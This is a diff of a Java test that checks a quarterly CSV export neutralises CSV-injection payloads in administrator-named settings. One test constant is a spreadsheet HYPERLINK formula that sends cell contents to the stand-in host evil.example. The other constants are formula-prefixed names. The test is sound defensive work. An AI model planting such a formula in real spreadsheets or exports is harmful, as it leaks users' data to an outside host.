@@ -4,6 +4,11 @@ import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import uk.tidemark.app.fixture.ApiClient;
+import uk.tidemark.app.fixture.ApiClient.Reply;
+import uk.tidemark.app.fixture.CaseFixture;
+import uk.tidemark.app.fixture.RunningApp;
 
 import java.io.IOException;
 import java.io.StringReader;
@@ -13,24 +18,32 @@ import java.util.List;
 import java.util.Map;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static uk.tidemark.app.fixture.CaseFixture.caseBody;
+import static uk.tidemark.app.fixture.TestAccounts.*;
 
 /**
  * Issue 12 item 4: a setting an administrator names like a spreadsheet formula reaches the trustees' quarterly CSV
  * as text, never as a live formula (OWASP CSV injection), while the counts stay numbers.
  */
-class CsvInjectionTest extends ApiTestSupport {
+@RunningApp
+class CsvInjectionTest {
 
     static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
+
+    @Autowired
+    ApiClient api;
+    @Autowired
+    CaseFixture cases;
 
     @Test
     void aSettingNamedLikeAFormulaArrivesInTheQuarterlyCsvNeutralised() throws IOException {
         for (String name : List.of(FORMULA, "+1+1 School", "-2+3 Centre", "@SUM(A1) Academy")) {
-            Reply created = post(ADMIN, "/api/admin/settings", Map.of("name", name, "trustId", "trust-1"));
+            Reply created = api.post(ADMIN, "/api/admin/settings", Map.of("name", name, "trustId", "trust-1"));
             assertThat(created.status()).as("%s", created).isEqualTo(201);
         }
-        logCase(DSL_A, caseBody());
+        cases.logCase(DSL_A, caseBody());
 
-        HttpResponse<byte[]> r = download(TRUSTEE, "/api/reports/quarterly.csv");
+        HttpResponse<byte[]> r = api.download(TRUSTEE, "/api/reports/quarterly.csv");
         assertThat(r.statusCode()).isEqualTo(200);
         String text = new String(r.body(), StandardCharsets.UTF_8);
         assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"");
